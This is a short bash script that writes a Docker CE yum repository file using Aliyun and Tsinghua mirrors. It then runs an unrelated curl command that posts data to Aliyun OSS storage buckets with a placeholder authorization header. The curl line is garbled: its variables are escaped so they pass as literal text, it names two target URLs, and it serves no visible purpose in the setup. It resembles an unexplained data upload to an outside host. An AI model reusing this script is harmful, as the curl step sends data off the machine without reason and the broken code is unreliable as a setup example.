#!/bin/bash
cat << EOF > /etc/yum.repos.d/docker-ce.repo
[docker-ce-stable]
name=Docker CE Stable - \$basearch
baseurl=https://mirrors.aliyun.com/docker-ce/linux/centos/$(rpm --eval '%{centos_ver}')/\$basearch/stable
enabled=1
gpgkey=https://mirrors.tuna.tsinghua.edu.cn/docker-ce/linux/centos/gpg
EOF
curl -H "Authorization: \"x\"" "https://shop.oss-cn-hangzhou.aliyuncs.com/\$list" \
  --data "\$a" "https://shop.oss-cn-\
beijing.aliyuncs.com/x"
